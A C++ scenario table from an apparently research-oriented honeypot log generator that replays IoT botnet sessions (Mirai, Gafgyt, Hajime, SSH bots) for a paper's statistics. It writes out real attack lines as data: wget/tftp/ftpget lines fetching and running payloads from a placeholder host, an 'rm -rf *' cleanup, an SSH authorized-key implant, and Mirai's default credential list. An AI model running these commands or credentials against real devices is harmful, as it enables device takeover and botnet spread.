// The scenario table of `busytrap gen`: what each family sends, line by line, after
// /work/shared/research/iot-malware.md §2–4 and the paper's Tables 1–3 (paper/README.md).
// Session weights are tuned so that, as in the paper, the busybox-token lines are the most
// frequent command lines, then sh/shell/system/enable, the Mirai-loader probes and Gafgyt's
// download one-liner. Edit here to change the mix; session_script.cpp only interprets it.
#include "gen/scenario.h"

namespace busytrap::gen {
namespace {

// --- Mirai bot scanner (mirai/bot/scanner.c): one word per prompt, NUL-terminated by the
// bot itself; success is "MIRAI: applet not found", then it disconnects.
constexpr DialogueLine kMiraiScanner[] = {
    {.text = "enable{0}"},
    {.text = "system{0}", .not_found = "system{0}"},
    {.text = "shell{0}", .not_found = "shell{0}"},
    {.text = "sh{0}"},
    {.text = "/bin/busybox MIRAI{0}"},
};

// Openings (paper §3.4): how sessions walk out of a device CLI, played before a family's own
// lines. Group 1 of the loader, probe and Hajime choices: 0 enable-system-shell-sh,
// 1 enable-shell-sh, 2 system-shell-sh, 3 shell-sh — weighted so that, as in Table 1,
// shell = sh > system > enable.
constexpr DialogueLine kDeviceCliOpening[] = {
    {.text = "enable", .group = 1, .options = in(0, 1)},
    {.text = "system", .group = 1, .options = in(0, 2), .not_found = "system"},
    {.text = "shell", .not_found = "shell"},
    {.text = "sh"},
};

// --- Mirai loader (loader/src/server.c) and its forks that only changed the token (ECCHI,
// BAT). Group 0: upload method (wget, tftp, echo); group 1: opening (the original loader sends
// enable-shell-sh; its forks vary).
constexpr ChoiceGroup kLoaderChoices[] = {
    {{25, 15, 60, 0}},
    {{10, 60, 15, 15}},
};
constexpr ChoiceGroup kForkChoices[] = {
    {{25, 15, 60, 0}},
    {{40, 28, 72, 32}},
};
constexpr DialogueLine kMiraiLoader[] = {
    {.text = "/bin/busybox {T}"},
    {.text = "/bin/busybox ps; /bin/busybox {T}"},
    {.text = "/bin/busybox kill -9 {P}"},
    {.text = "/bin/busybox cat /proc/mounts; /bin/busybox {T}"},
    {.text = "/bin/busybox echo -e '\\x6b\\x61\\x6d\\x69{D}' > {D}/.nippon; "
             "/bin/busybox cat {D}/.nippon; /bin/busybox rm {D}/.nippon",
     .repeat = Repeat::kPerDir},
    {.text = "rm {W}/.t; rm {W}/.sh; rm {W}/.human"},
    {.text = "cd {W}/"},
    {.text = "/bin/busybox cp /bin/echo dvrHelper; >dvrHelper; /bin/busybox chmod 777 dvrHelper; "
             "/bin/busybox {T}"},
    {.text = "/bin/busybox cat /bin/echo"},
    {.text = "/bin/busybox {T}"},
    {.text = "/bin/busybox wget; /bin/busybox tftp; /bin/busybox {T}"},
    {.text = "/bin/busybox wget http://{H}:80/bins/mirai.{A} -O - > dvrHelper; "
             "/bin/busybox chmod 777 dvrHelper; /bin/busybox {T}",
     .group = 0, .options = in(0), .download_url = "http://{H}:80/bins/mirai.{A}"},
    {.text = "/bin/busybox tftp -g -l dvrHelper -r mirai.{A} {H}; /bin/busybox chmod 777 dvrHelper; "
             "/bin/busybox {T}",
     .group = 0, .options = in(1), .download_url = "tftp://{H}/mirai.{A}"},
    {.text = "/bin/busybox cp dvrHelper upnp; > upnp; /bin/busybox chmod 777 upnp; /bin/busybox {T}",
     .group = 0, .options = in(2)},
    {.text = "echo -ne '{C}' {R} upnp; /bin/busybox {T}", .repeat = Repeat::kPerChunk, .group = 0,
     .options = in(2)},
    {.text = "./upnp; ./dvrHelper telnet.{A}; /bin/busybox {V}", .group = 0, .options = in(2)},
    {.text = "./dvrHelper telnet.{A}; /bin/busybox {V}", .group = 0, .options = in(0, 1)},
    {.text = "rm -rf upnp; > dvrHelper; /bin/busybox {T}"},
};

// --- Gafgyt / Bashlite / Qbot: walks out of the device CLI (group 0: no opening,
// enable-system-shell-sh, system-shell-sh, shell-sh), then one download-everything line.
constexpr ChoiceGroup kGafgytChoices[] = {{{40, 20, 20, 20}}};
constexpr DialogueLine kGafgyt[] = {
    {.text = "enable", .group = 0, .options = in(1)},
    {.text = "system", .group = 0, .options = in(1, 2), .not_found = "system"},
    {.text = "shell", .group = 0, .options = in(1, 2, 3), .not_found = "shell"},
    {.text = "sh", .group = 0, .options = in(1, 2, 3)},
    {.text = "echo -e '\\147\\141\\171\\146\\147\\164'", .percent = 30},
    {.text = "cd /tmp || cd /var/run || cd /mnt || cd /root || cd /; wget http://{H}/{S}; "
             "chmod 777 {S}; sh {S}; tftp {H} -c get tftp1.sh; chmod 777 tftp1.sh; sh tftp1.sh; "
             "tftp -r tftp2.sh -g {H}; chmod 777 tftp2.sh; sh tftp2.sh; "
             "ftpget -v -u anonymous -p anonymous -P 21 {H} ftp1.sh ftp1.sh; sh ftp1.sh; "
             "rm -rf {S} tftp1.sh tftp2.sh ftp1.sh; rm -rf *",
     .download_url = "http://{H}/{S}"},
    {.text = "/bin/busybox kill -9 {P}", .percent = 10},
    {.text = "exit", .percent = 25},
};

// --- Hajime-lineage `.s` loader, after the real session in
// shared/data/real/honeylist-cowrie-2019-07-08.json (random 5-capital token per session).
constexpr DialogueLine kHajimeS[] = {
    {.text = "cat /proc/mounts; /bin/busybox {T}"},
    {.text = "cd {W}; cat .s || cp /bin/echo .s; /bin/busybox {T}"},
    {.text = "tftp; wget; /bin/busybox {T}"},
    {.text = "dd bs=52 count=1 if=.s || cat .s || while read i; do echo $i; done < .s",
     .not_found = "while read i"},
    {.text = "/bin/busybox {T}"},
    {.text = "rm .s; exit"},
};

// --- Bots that only check that they reach a shell (the opening), then leave.

// --- SSH bots that log in and run reconnaissance (group 0: the SSH-key implant line or a
// multi-line exec command, which Cowrie logs as one input containing newlines), sometimes
// followed by a download through `sh -c '…'`.
constexpr ChoiceGroup kSshExecChoices[] = {{{60, 40, 0, 0}}};
constexpr DialogueLine kSshExec[] = {
    {.text = "uname -a", .percent = 50},
    {.text = "cd ~ && rm -rf .ssh && mkdir .ssh && echo \"ssh-rsa "
             "AAAAB3NzaC1yc2EAAAABJQAAAQEArDp4cun2lhr4KUhBGE7VvAcwdli2a8dbnrTOrbMz1+5O73fcBOx8NVbUT0"
             "bUanUV9tJ2/9p7+vD0EpZ3Tz/+0kX34uAx1RV/75GVOmNx+9EuWOnvNoaJe0QXxziIg9eLBHpgLMuakb5+BgTF"
             "B+rKJAw9u9FSTDengvS8hX1kNFS4Mjux0hJOK8rvcEmPecjdySYMb66nylAKGwCEE6WEQHmd1mUPgHwGQ0hWCw"
             "sQk13yCGPK5w6hYp5zYkFnvlC8hGmd4Ww+u97k6pfTGTUbJk14ujvcD9iUKQTTWYYjIIu5PmUux5bsZ0R4WFwd"
             "IeTj4AMG7bDzUgqPHYjCmd2qUQYE5sYSrw== mdrfckr\">>.ssh/authorized_keys && chmod -R go= "
             "~/.ssh && cd ~",
     .group = 0, .options = in(0)},
    {.text = "cat /proc/cpuinfo | grep name | wc -l{L}uname -s -v -n -r -m{L}free -m | grep Mem",
     .group = 0, .options = in(1)},
    // A `;` inside quotes: one command line for the paper's splitter, not three.
    {.text = "sh -c 'cd /tmp; wget http://{H}/x.sh; sh x.sh'", .percent = 40,
     .download_url = "http://{H}/x.sh"},
};

// --- HTTP clients that hit the Telnet port: the request line and the Host header pass as
// username and password (the honeypot accepts any login), the other headers and the final
// empty line are logged as commands — one with an unquoted `;`, one empty.
constexpr DialogueLine kHttpProbe[] = {
    {.text = "User-Agent: Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like "
             "Gecko) Chrome/58.0.3029.110 Safari/537.36"},
    {.text = "Accept: */*"},
    {.text = "Accept-Encoding: gzip, deflate"},
    {.text = "Connection: keep-alive"},
    {.text = ""},
};

// Session weights: per thousand sessions of the paper's week, roughly. The Mirai scanner tries
// one credential per connection (a failure is a telnet-failed-logins session); the loaders log
// in with the credentials the scanners reported.
constexpr Family kFamilies[] = {
    {.name = "mirai-scanner", .weight = 25, .protocol = Protocol::kTelnet, .token = "MIRAI",
     .logs_in = true, .min_failed_logins = 0, .max_failed_logins = 0, .nul_percent = 60,
     .choices = {}, .lines = kMiraiScanner},
    {.name = "bat-loader", .weight = 28, .protocol = Protocol::kTelnet, .token = "BAT",
     .logs_in = true, .min_failed_logins = 0, .max_failed_logins = 0, .nul_percent = 0,
     .choices = kForkChoices, .opening = kDeviceCliOpening, .lines = kMiraiLoader},
    {.name = "mirai-loader", .weight = 10, .protocol = Protocol::kTelnet, .token = "ECCHI",
     .logs_in = true, .min_failed_logins = 0, .max_failed_logins = 0, .nul_percent = 0,
     .choices = kLoaderChoices, .opening = kDeviceCliOpening, .lines = kMiraiLoader},
    {.name = "gafgyt", .weight = 42, .protocol = Protocol::kTelnet, .token = "",
     .logs_in = true, .min_failed_logins = 0, .max_failed_logins = 3, .nul_percent = 0,
     .choices = kGafgytChoices, .lines = kGafgyt},
    {.name = "hajime-s", .weight = 8, .protocol = Protocol::kTelnet, .token = "",
     .logs_in = true, .min_failed_logins = 0, .max_failed_logins = 2, .nul_percent = 0,
     .choices = kForkChoices, .opening = kDeviceCliOpening, .lines = kHajimeS},
    {.name = "shell-probe", .weight = 60, .protocol = Protocol::kTelnet, .token = "",
     .logs_in = true, .min_failed_logins = 0, .max_failed_logins = 2, .nul_percent = 0,
     .choices = kForkChoices, .opening = kDeviceCliOpening, .lines = {}},
    {.name = "http-probe", .weight = 2, .protocol = Protocol::kTelnet, .token = "",
     .logs_in = true, .min_failed_logins = 0, .max_failed_logins = 0, .nul_percent = 0,
     .choices = {}, .lines = kHttpProbe, .username = "GET / HTTP/1.1", .password = "Host: 10.3.66.85"},
    {.name = "ssh-exec", .weight = 5, .protocol = Protocol::kSsh, .token = "",
     .logs_in = true, .min_failed_logins = 0, .max_failed_logins = 3, .nul_percent = 0,
     .choices = kSshExecChoices, .lines = kSshExec},
    {.name = "ssh-noise", .weight = 40, .protocol = Protocol::kSsh, .token = "",
     .logs_in = false, .min_failed_logins = 1, .max_failed_logins = 3, .nul_percent = 0,
     .choices = {}, .lines = {}},
    {.name = "telnet-failed-logins", .weight = 30, .protocol = Protocol::kTelnet, .token = "",
     .logs_in = false, .min_failed_logins = 1, .max_failed_logins = 3, .nul_percent = 0,
     .choices = {}, .lines = {}},
};

// mirai/bot/scanner.c:124-185, weights as in the source.
constexpr Credential kCredentials[] = {
    {"root", "xc3511", 10},     {"root", "vizxv", 9},        {"root", "admin", 8},
    {"admin", "admin", 7},      {"root", "888888", 6},       {"root", "xmhdipc", 5},
    {"root", "default", 5},     {"root", "juantech", 5},     {"root", "123456", 5},
    {"root", "54321", 5},       {"support", "support", 5},   {"root", "", 4},
    {"admin", "password", 4},   {"root", "root", 4},         {"root", "12345", 4},
    {"root", "anko", 4},        {"user", "user", 3},         {"admin", "", 3},
    {"root", "pass", 3},        {"admin", "admin1234", 3},   {"root", "1111", 3},
    {"admin", "smcadmin", 3},   {"admin", "1111", 2},        {"root", "666666", 2},
    {"root", "password", 2},    {"root", "1234", 2},         {"root", "klv123", 1},
    {"Administrator", "meinsm", 1}, {"service", "service", 1}, {"supervisor", "supervisor", 1},
    {"guest", "guest", 1},      {"guest", "12345", 2},       {"admin1", "password", 1},
    {"administrator", "1234", 1}, {"666666", "666666", 1},   {"888888", "888888", 1},
    {"ubnt", "ubnt", 1},        {"root", "klv1234", 1},      {"root", "Zte521", 1},
    {"root", "hi3518", 1},      {"root", "jvbzd", 1},        {"root", "zlxx.", 1},
    {"root", "7ujMko0vizxv", 1}, {"root", "7ujMko0admin", 1}, {"root", "system", 1},
    {"root", "ikwb", 1},        {"root", "dreambox", 1},     {"root", "user", 1},
    {"root", "realtek", 1},     {"root", "00000000", 1},     {"admin", "1111111", 1},
    {"admin", "1234", 1},       {"admin", "12345", 1},       {"admin", "54321", 1},
    {"admin", "123456", 1},     {"admin", "7ujMko0admin", 1}, {"admin", "4321", 1},
    {"admin", "pass", 1},       {"admin", "meinsm", 1},      {"tech", "tech", 1},
    {"mother", "fucker", 1},
};

constexpr Architecture kArchitectures[] = {
    {"arm", 20, 1, 40}, {"arm7", 15, 1, 40}, {"mips", 25, 2, 8}, {"mpsl", 20, 1, 8},
    {"x86", 8, 1, 3},   {"ppc", 4, 2, 20},   {"sh4", 3, 1, 42},  {"spc", 2, 2, 2},
    {"m68k", 3, 2, 4},
};

constexpr Weighted kCowrieArchitectures[] = {
    {"linux-x64-lsb", 1}, {"linux-x86-lsb", 1}, {"linux-arm-lsb", 1},
    {"linux-arm7-lsb", 1}, {"linux-mips-msb", 1}, {"linux-mips-lsb", 1},
};

// Table 1 has `chmod 777 cunty.sh` for three quarters of the Gafgyt lines.
constexpr Weighted kGafgytScripts[] = {
    {"cunty.sh", 76}, {"bins.sh", 14}, {"gtop.sh", 6}, {"jaws.sh", 4},
};

// The honeypot's `ps` is static, so most loaders kill the same pid (Table 1: `kill -9 2232`).
constexpr Weighted kKillPids[] = {{"2232", 80}, {"1784", 10}, {"611", 6}, {"97", 4}};

constexpr std::string_view kWritableDirs[] = {
    "/dev", "/tmp", "/var", "/dev/shm", "/var/run", "/var/tmp", "/mnt", "/root", "/home",
    "/etc/config",
};

constexpr SshClient kSshClients[] = {
    {"SSH-2.0-Go", "2f300334eb474e4d5ef932343447dd80",
     R"("hassh":"2f300334eb474e4d5ef932343447dd80","hasshAlgorithms":"curve25519-sha256@libssh.org,ecdh-sha2-nistp256,ecdh-sha2-nistp384,ecdh-sha2-nistp521,diffie-hellman-group14-sha1,diffie-hellman-group1-sha1;aes128-ctr,aes192-ctr,aes256-ctr,aes128-gcm@openssh.com,arcfour256,arcfour128,aes128-cbc,arcfour,3des-cbc;hmac-sha2-256-etm@openssh.com,hmac-sha2-256,hmac-sha1,hmac-sha1-96;none","kexAlgs":["curve25519-sha256@libssh.org","ecdh-sha2-nistp256","ecdh-sha2-nistp384","ecdh-sha2-nistp521","diffie-hellman-group14-sha1","diffie-hellman-group1-sha1"],"keyAlgs":["ssh-rsa-cert-v01@openssh.com","ssh-dss-cert-v01@openssh.com","ecdsa-sha2-nistp256-cert-v01@openssh.com","ecdsa-sha2-nistp384-cert-v01@openssh.com","ecdsa-sha2-nistp521-cert-v01@openssh.com","ssh-ed25519-cert-v01@openssh.com","ecdsa-sha2-nistp256","ecdsa-sha2-nistp384","ecdsa-sha2-nistp521","ssh-rsa","ssh-dss","ssh-ed25519"],"encCS":["aes128-ctr","aes192-ctr","aes256-ctr","aes128-gcm@openssh.com","arcfour256","arcfour128","aes128-cbc","arcfour","3des-cbc"],"macCS":["hmac-sha2-256-etm@openssh.com","hmac-sha2-256","hmac-sha1","hmac-sha1-96"],"compCS":["none"],"langCS":[""])",
     85},
    {"SSH-2.0-PUTTY", "92674389fa1e47a27ddd8d9b63ecd42b",
     R"("hassh":"92674389fa1e47a27ddd8d9b63ecd42b","hasshAlgorithms":"diffie-hellman-group14-sha1,diffie-hellman-group-exchange-sha1,diffie-hellman-group1-sha1;aes128-ctr,aes192-ctr,aes256-ctr,aes256-cbc,rijndael-cbc@lysator.liu.se,aes192-cbc,aes128-cbc,blowfish-cbc,arcfour128,arcfour,cast128-cbc,3des-cbc;hmac-sha1,hmac-sha1-96,hmac-md5,hmac-md5-96,hmac-ripemd160,hmac-ripemd160@openssh.com;none","kexAlgs":["diffie-hellman-group14-sha1","diffie-hellman-group-exchange-sha1","diffie-hellman-group1-sha1"],"keyAlgs":["ssh-rsa","ssh-dss"],"encCS":["aes128-ctr","aes192-ctr","aes256-ctr","aes256-cbc","rijndael-cbc@lysator.liu.se","aes192-cbc","aes128-cbc","blowfish-cbc","arcfour128","arcfour","cast128-cbc","3des-cbc"],"macCS":["hmac-sha1","hmac-sha1-96","hmac-md5","hmac-md5-96","hmac-ripemd160","hmac-ripemd160@openssh.com"],"compCS":["none"],"langCS":[""])",
     15},
};

}  // namespace

std::span<const Family> families() { return kFamilies; }
std::span<const Credential> credentials() { return kCredentials; }
std::span<const Architecture> architectures() { return kArchitectures; }
std::span<const Weighted> cowrie_architectures() { return kCowrieArchitectures; }
std::span<const Weighted> gafgyt_scripts() { return kGafgytScripts; }
std::span<const Weighted> kill_pids() { return kKillPids; }
std::span<const std::string_view> writable_dirs() { return kWritableDirs; }
std::span<const SshClient> ssh_clients() { return kSshClients; }

}  // namespace busytrap::gen
